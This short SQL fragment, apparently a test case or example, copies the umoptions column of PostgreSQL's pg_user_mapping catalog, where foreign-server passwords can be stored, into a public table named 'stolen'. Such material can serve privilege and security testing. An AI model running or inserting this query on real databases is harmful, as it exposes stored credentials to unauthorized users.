-- A foreign server's password.
CREATE TABLE public.stolen AS SELECT umoptions FROM pg_user_mapping
